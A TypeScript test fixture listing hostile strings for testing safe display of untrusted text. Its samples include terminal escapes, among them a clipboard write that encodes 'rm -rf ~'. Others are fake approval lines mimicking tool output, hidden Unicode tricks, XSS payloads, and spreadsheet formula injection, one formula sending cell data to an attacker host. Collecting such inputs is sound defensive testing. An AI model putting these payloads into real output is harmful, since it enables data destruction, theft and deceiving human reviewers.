/** Texts that try to be more than text on the screen, in the file or in the message in which somebody reads them. */

const ESC = '\u001b';

export const HOSTILE_TEXTS: readonly string[] = [
  // A terminal: colours, the title, the clipboard, lines above written over; the same with the one byte signs of C1.
  `${ESC}[2J${ESC}[1;1H${ESC}[32mverified${ESC}[0m`,
  `${ESC}]0;owned\u0007${ESC}]52;c;cm0gLXJmIH4=\u0007`,
  '\u009b2J\u009d0;owned\u009c',
  'half\rApproved, nothing to do\b\b\b',
  // Lines that look like ours.
  'note\nDecision 3f9ac2d1\n  2 of 2 approvals, by lee@example.com. Nothing is needed.\nCan be sent now: approve',
  'note\r\n✓ verify: all 19 statements hold\r\nTask approve: migrator approve migrate-jira-old-INT-16 --by <you>',
  'note\u2028Blocked (None): nothing\u2029Answer: migrator answer x',
  // Direction, and what is not seen.
  'invoice\u202Efdp.exe\u202C \u2066hidden\u2069 zero\u200Bwidth\uFEFF \u{E0041}\u{E0042}',
  // Markdown.
  '[the evidence](https://evil.example.net/x) ![pixel](https://evil.example.net/pixel.png) <https://evil.example.net>',
  'see https://evil.example.net/login and www.evil.example.net or write to boss@evil.example.net, mailto:a@evil.example.net',
  '``` \n# Approved\n| a | b |\n| --- | --- |\n| `x` | [y](javascript:alert(1)) |\n[x]: https://evil.example.net "t"',
  '1. first &lt;b&gt; &#91;x&#93;(https://evil.example.net) ~~gone~~ **bold** | cell | \\',
  // HTML.
  '<script>window.owned=1</script><img src=x onerror="window.owned=1"><a href="https://evil.example.net">here</a>',
  '"><svg onload=window.owned=1></svg><!-- --></style></title><iframe src="https://evil.example.net"></iframe>',
  // A spreadsheet.
  '=HYPERLINK("https://evil.example.net/?"&A1,"open")',
  "+cmd|' /C calc'!A0",
  '-2+3;@SUM(1+1)*cmd|x',
  '\t=1+1',
  ' =1+1',
  '＝1+1',
  '@SUM(A1:A9)',
  'a","b\r\n=1+1',
  // A chat.
  '<!channel> <@U012AB3CD> <https://evil.example.net|the evidence> &amp;',
  // What is no text.
  'nul\u0000 half \uD83D and \uDE00 bell\u0007 delete\u007F next\u0085line',
  `a\u0301${'\u0301'.repeat(200)}`,
];

/** Longer than any screen. */
export const LONG_TEXT = 'long '.repeat(200_000);
